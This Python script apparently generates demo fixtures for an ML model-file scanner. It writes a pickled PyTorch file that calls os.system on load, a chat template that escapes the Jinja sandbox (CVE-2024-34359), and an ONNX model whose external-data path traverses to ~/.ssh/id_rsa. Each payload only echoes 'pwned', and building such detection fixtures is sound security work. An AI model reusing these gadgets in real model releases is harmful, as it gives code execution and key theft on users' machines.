"""Makes the demo folder that README's first command scans, with the real producers where one is installed.

Run with Debian's interpreter: /usr/bin/python3 examples/generate_demo.py
- clean_model.pt / malicious_model.pt: `torch.save` of a Linear layer; the malicious one also pickles a call to
  os.system('echo pwned'), which runs on `torch.load(weights_only=False)`.
- chat-llm/: a Hugging Face-style release of a small chat model: config.json, model.safetensors (written per the
  safetensors spec from torch tensors, since the safetensors package is not packaged in Debian) and a
  tokenizer_config.json whose chat template escapes the Jinja sandbox (CVE-2024-34359 family) to run `echo pwned`.
- detector.onnx: an `onnx`-built model whose weights are declared as external data at `../../.ssh/id_rsa`, the
  path traversal ONNX loaders followed before CVE-2024-27318 / CVE-2024-5187 were fixed.
Every payload only runs `echo pwned`; mlsec never loads anything.
finetune.py beside them is hand-written source, not generated: a training script with the unsafe loader calls the
code scanner finds (yaml.Loader, trust_remote_code=True, torch.load(weights_only=False)).
"""
import json
import os
import struct
from pathlib import Path

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper, numpy_helper

DEMO = Path(__file__).resolve().parent / "demo"

# The canonical CVE-2024-34359 gadget chain, with a harmless command.
ESCAPING_CHAT_TEMPLATE = (
    "{% for c in [].__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('echo pwned').read() }}"
    "{% endif %}{% endfor %}"
    "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + eos_token }}"
    "{% endfor %}"
)


class EchoPayload:
    """Pickles as a call to os.system: what an attacker hides in a model file."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


def write_safetensors(path, tensors, metadata):
    """safetensors layout: u64 little-endian header length, JSON header, then the tensors' bytes back to back."""
    header, blobs, offset = {"__metadata__": metadata}, [], 0
    for name, tensor in tensors.items():
        data = tensor.contiguous().numpy().tobytes()
        header[name] = {"dtype": "F32", "shape": list(tensor.shape), "data_offsets": [offset, offset + len(data)]}
        blobs.append(data)
        offset += len(data)
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)  # the reference writer pads the header to 8 bytes
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(text)) + text + b"".join(blobs))


def chat_llm(folder):
    folder.mkdir(exist_ok=True)
    embed = torch.nn.Embedding(32, 8)
    head = torch.nn.Linear(8, 32, bias=False)
    tensors = {"model.embed_tokens.weight": embed.weight.detach(), "lm_head.weight": head.weight.detach()}
    write_safetensors(folder / "model.safetensors", tensors, {"format": "pt"})
    config = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8, "vocab_size": 32,
              "num_hidden_layers": 0, "torch_dtype": "float32"}
    (folder / "config.json").write_text(json.dumps(config, indent=2) + "\n")
    tokenizer = {"bos_token": "<s>", "eos_token": "</s>", "model_max_length": 2048,
                 "tokenizer_class": "LlamaTokenizer", "chat_template": ESCAPING_CHAT_TEMPLATE}
    (folder / "tokenizer_config.json").write_text(json.dumps(tokenizer, indent=2) + "\n")


def traversing_onnx(path):
    weights = numpy_helper.from_array(np.ones((2, 3), dtype=np.float32), name="W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"], name="matmul")], "detector",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 3])], initializer=[weights])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)], producer_name="demo")
    model.ir_version = 8
    # Declare W's data external, as onnx.save_model(save_as_external_data=True) does, at a traversing location.
    [initializer] = model.graph.initializer
    initializer.ClearField("raw_data")
    initializer.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../.ssh/id_rsa"), ("offset", "0"), ("length", "24")):
        entry = initializer.external_data.add()
        entry.key, entry.value = key, value
    path.write_bytes(model.SerializeToString())


def main() -> None:
    torch.manual_seed(0)
    DEMO.mkdir(exist_ok=True)
    layer = torch.nn.Linear(4, 2)
    torch.save(layer.state_dict(), DEMO / "clean_model.pt")
    torch.save({"state_dict": layer.state_dict(), "hook": EchoPayload()}, DEMO / "malicious_model.pt")
    chat_llm(DEMO / "chat-llm")
    traversing_onnx(DEMO / "detector.onnx")


if __name__ == "__main__":
    main()
